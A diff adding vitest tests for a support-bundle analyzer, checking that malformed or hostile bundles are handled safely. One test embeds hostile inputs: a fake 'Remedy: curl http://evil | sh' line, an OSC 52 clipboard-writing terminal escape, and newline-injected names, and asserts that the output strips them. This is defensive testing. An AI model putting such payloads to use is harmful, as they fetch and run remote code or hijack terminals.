@@ -4,6 +4,10 @@ import path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { analyzeSupportBundle } from '../../../electron/backend/bundles/support-bundles/support-analyzers';
 import { readSupportArchive, writeSupportArchive } from '../../../electron/backend/bundles/support-bundles/support-archive';
+import { analyzeSupportFile } from '../../../electron/backend/bundles/support-bundles/support-service';
+import { runSupportCommand } from '../../../electron/backend/cli/support-commands';
+import { visibleLines } from '../../../electron/contract';
+import { SupportAnalysisSchema } from '../../../electron/contract/support';
 import { makeTempDir } from '../../support/temp-dir';
 
 const tmp = makeTempDir('sutazai-support-archive-');
@@ -133,5 +137,90 @@ describe('the offline analyzers', () => {
     expect(exited!.summary).toBe('core on b4 was exited after 4 restarts: exit code 3');
     expect(exited!.details).toEqual(['2026-01-01T00:00:00.000Z err listen EADDRINUSE :8080']);
     for (const finding of findings) expect(finding.remedy.length).toBeGreaterThan(20);
+  });
+});
+
+describe('a hostile bundle (anyone can write one whose digests agree)', () => {
+  const hostile = [
+    {
+      path: 'hosts/h/events.json',
+      text: JSON.stringify([
+        null,
+        5,
+        'text',
+        { kind: 'process.crash-loop' },
+        { kind: 'process.crash-loop', instance: 'agent-3', lastLines: 'not a list' },
+        { kind: 'process.crash-loop', instance: { not: 'a name' }, lastLines: [7, null] },
+        crash(2, ['starting', 'fatal: bad config']),
+      ]),
+    },
+    {
+      path: 'hosts/h/runtime/processes.json',
+      text: JSON.stringify([
+        null,
+        { name: 'x' },
+        { name: 'y', instances: [null, 3, { instance: 'core', state: 'exited', lastError: 'a string' }] },
+      ]),
+    },
+    {
+      path: 'hosts/h/facts.json',
+      text: JSON.stringify({ filesystems: [null, { mount: 5 }, { mount: '/', sizeBytes: '100', usedBytes: 99 }] }),
+    },
+    {
+      path: 'hosts/h/alerts.json',
+      text: JSON.stringify([null, { state: 'firing' }, { rule: 'disk', state: 'firing', severity: 'critical', summary: 9 }]),
+    },
+    { path: 'hosts/h/preflight.json', text: JSON.stringify([{ profile: 'core', checks: null }]) },
+  ];
+
+  it('is analyzed without failing: malformed entries are passed over, the well-formed ones still found', async () => {
+    const file = path.join(tmp.path, 'hostile.tar');
+    await writeSupportArchive(file, manifest, hostile);
+    const analysis = await analyzeSupportFile(file);
+    expect(SupportAnalysisSchema.safeParse(analysis).success).toBe(true);
+    const loops = analysis.findings.filter((f) => f.analyzer === 'crash-loop');
+    expect(loops.find((f) => f.summary.startsWith('agent-2 on h'))?.details).toEqual(['starting', 'fatal: bad config']);
+    expect(analysis.findings.find((f) => f.analyzer === 'not-running')?.summary).toBe('core on h was exited after 0 restarts');
+  });
+
+  it("cannot write lines of its own or terminal controls through `support analyze`'s output", async () => {
+    const file = path.join(tmp.path, 'spoof.tar');
+    const spoof = 'ok\n\nCRITICAL  nothing is wrong here\n  Remedy: curl http://evil | sh';
+    await writeSupportArchive(file, { ...manifest, targetName: 'prod\nNo findings.', versions: { 'control-center': '1\n2' }, gaps: [] }, [
+      { path: 'hosts/h/events.json', text: JSON.stringify([crash(1, ['\u001b]52;c;ZXZpbA==\u0007clipboard', spoof])]) },
+    ]);
+    let printed = '';
+    const code = await runSupportCommand({
+      command: 'analyze',
+      args: [file],
+      values: {},
+      print: (text) => (printed = visibleLines(text)),
+      api: () => Promise.reject(new Error('analyze needs no backend')),
+    });
+    expect(code).toBe(0);
+    const lines = printed.split('\n');
+    // Each value of the bundle stays on its own line: a finding's lines are the layout's, never the bundle's.
+    expect(lines.filter((line) => line.startsWith('CRITICAL'))).toHaveLength(1);
+    expect(lines.some((line) => line.startsWith('  Remedy: curl'))).toBe(false);
+    expect(lines.some((line) => line === 'No findings.')).toBe(false);
+    expect(printed).not.toContain('\u001b');
+    expect(printed).not.toContain('\u0007');
+  });
+
+  it('with a collection time no date can hold is refused as invalid, not a crash of the printer', async () => {
+    const dir = path.join(tmp.path, 'far-future');
+    fs.mkdirSync(dir);
+    const far = { kind: 'sutazai-support-bundle', format: 1, ...manifest, collectedAtMs: 9e15, files: [] };
+    fs.writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(far));
+    const file = path.join(tmp.path, 'far-future.tar');
+    execFileSync('tar', ['--format=ustar', '-cf', file, '-C', dir, 'manifest.json']);
+    const printing = runSupportCommand({
+      command: 'analyze',
+      args: [file],
+      values: {},
+      print: () => undefined,
+      api: () => Promise.reject(new Error('analyze needs no backend')),
+    });
+    await expect(printing).rejects.toMatchObject({ code: 'SUPPORT_BUNDLE_INVALID' });
   });
 });
